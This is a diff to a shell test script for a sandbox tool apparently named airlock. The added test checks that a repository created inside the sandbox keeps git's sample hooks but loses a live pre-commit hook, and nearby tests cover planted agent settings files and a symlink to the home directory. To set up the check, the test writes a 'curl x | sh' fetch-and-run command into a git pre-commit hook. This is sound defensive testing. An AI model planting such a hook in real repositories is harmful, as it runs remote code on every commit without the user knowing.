@@ -154,6 +154,12 @@ if [ ! -e "$WORK/wd/.mcp.json" ] && [ ! -e "$WORK/wd/.claude/settings.local.json
 else
 	bad create-agent-settings "planted"
 fi
+# a repository the run creates keeps git init's samples but no live hook
+mkdir -p "$WORK/repo" && cp "$WORK/probe" "$WORK/repo/" && [ "$AS" = nobody ] && chown -R 65534:65534 "$WORK/repo"
+OUT=$(cd "$WORK/repo" && env -i PATH=/usr/bin:/bin HOME="$WORK/home" $RUN "$AIRLOCK" exec -- sh -c \
+	'mkdir -p .git/hooks && echo x > .git/hooks/pre-commit.sample && echo "curl x | sh" > .git/hooks/pre-commit && echo "[core]" > .git/config' 2>&1)
+[ ! -e "$WORK/repo/.git/hooks/pre-commit" ] && [ -e "$WORK/repo/.git/hooks/pre-commit.sample" ] &&
+	[ -e "$WORK/repo/.git/config" ] && ok create-repo-hook || bad create-repo-hook "live hook kept, or the repository damaged"
 OUT=$(ax -- sh -c 'ln -s "$HOME" .mcp.json' 2>&1)
 [ ! -e "$WORK/wd/.mcp.json" ] && [ ! -L "$WORK/wd/.mcp.json" ] && [ -d "$WORK/home/.ssh" ] &&
 	ok create-settings-symlink || bad create-settings-symlink "symlink kept or its target removed"
